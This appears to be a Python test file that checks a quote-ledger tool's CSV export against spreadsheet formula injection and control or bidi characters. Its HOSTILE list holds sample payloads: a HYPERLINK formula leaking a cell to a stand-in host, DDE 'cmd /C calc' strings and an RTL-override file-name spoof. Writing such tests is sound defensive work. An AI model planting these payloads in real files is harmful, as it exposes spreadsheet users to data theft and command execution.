"""CSV export is safe to open in a spreadsheet (issue 15 item 9): no cell opens as a formula, and
no cell carries a control character or a bidi override; the JSON formats keep the exact text."""
from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quoteledger import cli
from quoteledger.commands.export import spreadsheet_cell
from quoteledger.ledger import Ledger
from test_ledger_support import make_article, make_record

FORMULA_OPENERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
UNSAFE = {chr(c) for c in [*range(0x00, 0x09), 0x0b, 0x0c, *range(0x0e, 0x20), *range(0x7f, 0xa0),
                           *range(0x202a, 0x202f), *range(0x2066, 0x206a)]}
HOSTILE = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "\t=1", "\r=1", "\uff1d1+1",
           "Budget \x00 cut \x1b[31m now", "Tax \u202egnp.exe", "Vote \u2066isolated\u2069 now"]


def hostile_ledger(path, text, headline="Budget talks resume in the capital"):
    article = make_article(headline=headline, copy="hostile", outlet="-Outlet", organization="@org")
    with Ledger(str(path)) as ledger:
        ledger.add_document([make_record(text, article, speaker="=Mayor Jones", cue="+said")])
    return path


def export(path, tmp_path, fmt) -> str:
    out = tmp_path / f"out.{fmt}"
    assert cli.main(["export", "--ledger", str(path), "--format", fmt, "-o", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as fh:     # as csv readers read it: a lone \r ends a line
        return fh.read()


def assert_safe_cell(cell: str) -> None:
    assert not cell.lstrip().startswith(tuple(FORMULA_OPENERS)), cell
    assert not (UNSAFE | {"\r"}) & set(cell), cell


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_cell_opens_as_a_formula_or_holds_a_control(tmp_path, text):
    ledger = hostile_ledger(tmp_path / "l.db", text, headline=text + " headline")
    rows = list(csv.DictReader(io.StringIO(export(ledger, tmp_path, "csv"))))
    assert len(rows) == 1
    for cell in rows[0].values():
        assert_safe_cell(cell)
    # The words are all still there, only marked as text and with controls made visible.
    visible = "".join("\ufffd" if c in UNSAFE else c for c in text).replace("\r", "\n")
    assert rows[0]["text"] in (visible, "'" + visible)
    assert rows[0]["speaker"] == "'=Mayor Jones" and rows[0]["outlet"] == "'-Outlet"


@pytest.mark.parametrize("text", HOSTILE)
def test_json_export_keeps_the_exact_text(tmp_path, text):
    ledger = hostile_ledger(tmp_path / "l.db", text)
    entry = json.loads(export(ledger, tmp_path, "jsonl"))
    assert entry["text"] == text and entry["speaker"]["name"] == "=Mayor Jones"


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.text(alphabet=st.sampled_from(sorted(UNSAFE) + list(FORMULA_OPENERS) + [" ", "a"]))))
def test_any_text_makes_a_safe_cell_that_keeps_its_other_characters(text):
    cell = spreadsheet_cell(text)
    assert_safe_cell(cell)
    kept = cell[1:] if cell.startswith("'") and not text.startswith("'") else cell
    text = text.replace("\r\n", "\n").replace("\r", "\n")      # one line break, one "\n"
    assert len(kept) == len(text)
    assert all(a == b or (a in UNSAFE and b == "\ufffd") for a, b in zip(text, kept))


def test_numbers_stay_numbers():
    assert spreadsheet_cell(0.25) == 0.25 and spreadsheet_cell(7) == 7
